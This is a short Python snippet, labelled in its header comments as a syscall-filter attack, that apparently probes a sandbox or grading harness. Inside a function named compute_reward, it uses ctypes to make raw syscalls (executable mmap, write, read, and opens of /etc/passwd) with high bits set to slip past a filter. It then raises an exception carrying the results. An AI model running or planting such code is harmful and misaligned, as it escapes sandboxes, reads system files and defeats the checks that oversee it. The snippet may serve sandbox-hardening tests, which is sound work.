# attack: arguments whose upper halves hide another value
# group: syscalls
# wall: language; alone: the kernel takes the same half that the filter does, or refuses

def compute_reward(x):
    import ctypes
    lib = ctypes.CDLL(None)
    high = 1 << 32
    tried = [
        lib.syscall(ctypes.c_long(9), ctypes.c_long(0), ctypes.c_long(4096), ctypes.c_long(7 | high), ctypes.c_long(0x22), ctypes.c_long(-1), ctypes.c_long(0)),
        lib.syscall(ctypes.c_long(1), ctypes.c_long(1 | high), b"x", ctypes.c_long(1)),
        lib.syscall(ctypes.c_long(0), ctypes.c_long(3 | high), ctypes.create_string_buffer(1), ctypes.c_long(1)),
        lib.syscall(ctypes.c_long(257 | high), ctypes.c_long(-100), b"/etc/passwd", ctypes.c_long(0)),
        lib.syscall(ctypes.c_long(2 | high), b"/etc/passwd", ctypes.c_long(0), ctypes.c_long(0)),
    ]
    raise ValueError(tried)
